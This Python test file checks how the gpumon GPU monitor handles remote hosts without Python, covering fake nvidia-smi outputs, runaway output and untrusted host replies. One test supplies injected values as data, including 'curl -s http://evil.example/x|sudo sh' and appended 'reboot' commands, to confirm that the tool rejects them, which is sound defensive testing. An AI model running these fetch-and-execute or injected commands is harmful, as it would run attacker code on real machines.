"""Hosts without gpumon and without Python: what their shell and nvidia-smi answer, and what is said of it.

The shell is a real one, on this machine: what stands for ssh hands it the words that a host's shell would get.
"""

from __future__ import annotations

import asyncio
import json
import shutil
import sys
import time
from pathlib import Path

import msgspec
import pytest

from gpumon.config.schema import Host
from gpumon.readings.missing import Missing, Reason
from gpumon.sources.guest.archive import Archives
from gpumon.sources.guest.shell import first_words, open_shell, script_text
from gpumon.sources.guest.wheels import python_here
from gpumon.sources.remote import Remote
from tests.fakes.nvml.driver import FakeDriver
from tests.sources.test_remote import pretend_ssh, run_until

ROOT = Path(__file__).resolve().parents[3]
TOOLS = ("sh", "dd", "mktemp", "sed", "grep", "head", "tr", "rm", "chmod", "cat")


@pytest.fixture
def programs(tmp_path: Path) -> Path:
    """The only programs of a login: no Python, no gpumon."""
    folder = tmp_path / "programs"
    folder.mkdir()
    for tool in TOOLS:
        (folder / tool).symlink_to(str(shutil.which(tool)))
    return folder


def put(programs: Path, name: str, script: str) -> None:
    program = programs / name
    program.unlink(missing_ok=True)  # it may be a link to the real one
    program.write_text(f"#!/bin/sh\n{script}\n")
    program.chmod(0o755)


def put_nvidia_smi(programs: Path, driver: FakeDriver, lacks: str = "") -> None:
    variables = {name: driver.env()[name] for name in ("LD_LIBRARY_PATH", "GPUMON_FAKE_NVML")}
    told = " ".join(f"{name}='{value}'" for name, value in variables.items())
    command = f"{sys.executable} -m tests.fakes.nvidia_smi"
    put(programs, "nvidia-smi", f"PYTHONPATH='{ROOT}' GPUMON_FAKE_SMI_LACKS='{lacks}' {told} exec {command} \"$@\"")


TITLE = r"\033]0;gpu-07\007"
"""Title of a window, as start-up files set it: without an end of the line."""


def bare(
    tmp_path: Path,
    programs: Path,
    monkeypatch: pytest.MonkeyPatch,
    login_shell: str = "sh",
    greeting: str = r"Welcome!\n",
) -> Remote:
    """A host whose login shell prints something by itself, as start-up files do."""
    shell = shutil.which(login_shell)
    pretend_ssh(tmp_path, monkeypatch, f"printf '{greeting}'\nPATH={programs} exec {shell} -c \"$WORDS\"")
    remote = Remote(Host(address="gpu-07", install=True), 1.0, time.time)
    remote.archives = Archives(str(tmp_path / "wheels"))
    return remote


@pytest.mark.parametrize("login_shell", ["sh", "bash"])
async def test_gpus_of_an_old_nvidia_smi(
    tmp_path: Path, programs: Path, monkeypatch: pytest.MonkeyPatch, login_shell: str
) -> None:
    driver = FakeDriver(tmp_path)
    driver.write("gpus 2\nprofile h100-sxm\ngpu 0 busy 91\ngpu 1 busy 7\n")
    put_nvidia_smi(programs, driver, "clocks_event_reasons.active,memory.reserved,compute_cap")
    remote = bare(tmp_path, programs, monkeypatch, login_shell, TITLE)
    await run_until(remote, lambda: remote.lines > 1)
    frame = remote.at(None)
    assert frame is not None
    assert [gpu.busy_ratio for gpu in frame.gpus] == [pytest.approx(0.91), pytest.approx(0.07)]
    reserved = frame.gpus[0].vram_reserved_bytes
    assert isinstance(reserved, Missing)
    assert reserved.reason is Reason.NOT_SUPPORTED
    before = remote.at(time.time())
    assert before is not None
    assert before.gpus == frame.gpus, "it is kept for going back"


@pytest.mark.parametrize(
    ("script", "words"),
    [
        ("", "there is no nvidia-smi either (no Python 3.10 or newer there (none))"),
        ("echo 'NVIDIA-SMI has failed because it could not talk to the driver.'; exit 9", "NVIDIA-SMI has failed"),
        ("echo 'No devices were found'; exit 6", "nvidia-smi there: No devices were found"),
        ("exit 0", "nvidia-smi there: no GPU"),
        ("kill $PPID", "(no Python 3.10 or newer there (none))"),
    ],
    ids=range(5),
)
async def test_why_a_host_has_no_rows(
    tmp_path: Path, programs: Path, monkeypatch: pytest.MonkeyPatch, script: str, words: str
) -> None:
    if script:
        put(programs, "nvidia-smi", script)
    remote = bare(tmp_path, programs, monkeypatch)
    await run_until(remote, lambda: words in remote.fault)
    frame = remote.at(None)
    assert frame is not None
    assert frame.gpus == ()


def lying(**facts: object) -> str:
    """What a host prints that tells something false of its Python."""
    return f"gpumon-python python3 {json.dumps({**msgspec.to_builtins(python_here()), **facts})}"


@pytest.mark.parametrize(
    ("answer", "words"),
    [
        (lying(machine="x86_64 x; curl -s http://evil.example/x|sudo sh #"), "or of a platform that is not known"),
        (lying(machine="x86_64 --index-url http://evil.example"), "or of a platform that is not known"),
        (lying(version=[3, 10**9]), "tells something else than facts"),
        (lying(libc="glibc; reboot"), "or of a platform that is not known"),
        ("gpumon-python python3 {}", "tells something else than facts"),
        ("gpumon-python python3;reboot {}", "there is no nvidia-smi"),
        ('gpumon-python python3 {"version":[3,12]}', "tells something else than facts"),
    ],
)
async def test_what_a_host_tells_of_its_python_is_not_trusted(
    tmp_path: Path, programs: Path, monkeypatch: pytest.MonkeyPatch, answer: str, words: str
) -> None:
    put(programs, "sh", f"echo '{answer}'\nexec {shutil.which('sh')} \"$@\"")
    remote = bare(tmp_path, programs, monkeypatch)
    await run_until(remote, lambda: words in remote.fault)
    assert "evil" not in remote.fault


async def test_an_answer_without_end_is_given_up(
    tmp_path: Path, programs: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    put(programs, "nvidia-smi", "while :; do echo x; done")
    remote = bare(tmp_path, programs, monkeypatch)
    await run_until(remote, lambda: "more than 20000 lines" in remote.fault)


async def test_an_answer_of_long_lines_is_given_up_before_it_fills_the_memory(
    tmp_path: Path, programs: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    put(programs, "nvidia-smi", "x=$(head -c 1000000 /dev/zero | tr '\\0' x); while :; do echo $x; done")
    remote = bare(tmp_path, programs, monkeypatch)
    await run_until(remote, lambda: "more than 16 MiB" in remote.fault)


async def test_the_end_of_the_connection_is_the_end_of_the_shell(
    tmp_path: Path, programs: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its input ends while it waits for a request; nothing is left."""
    done = tmp_path / "done"
    pretend_ssh(tmp_path, monkeypatch, f'PATH={programs} sh -c "$WORDS"; echo $? >{done}')
    shell = await open_shell("gpu-07")
    try:
        assert await shell.pythons() == ()
        shell.connection.end_input()
        end_s = time.monotonic() + 60.0
        while not done.exists():
            assert time.monotonic() < end_s
            await asyncio.sleep(0.02)
    finally:
        await shell.close()


def test_the_words_for_the_login_shell_hold_nothing_that_one_could_read_otherwise() -> None:
    words = first_words(len(script_text().encode()))
    inner = words.removeprefix("sh -c '").removesuffix("'")
    assert not set(inner) & set("'!\\`\n")
    assert len(words) < 100


async def test_a_shell_that_takes_no_archive_is_given_up(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    facts = msgspec.json.encode(python_here()).decode()
    answer = f"echo 'gpumon-python python3 {facts}'; echo 'gpumon-end 0'; exec sleep 600"
    pretend_ssh(tmp_path, monkeypatch, f'case "$WORDS" in *watch*) exit 127;; esac\n{answer}')
    monkeypatch.setattr("gpumon.sources.remote._SEND_S", 0.5)
    remote = Remote(Host(address="gpu-07", install=True), 1.0, time.time)
    await run_until(remote, lambda: "it has not taken gpumon" in remote.fault)
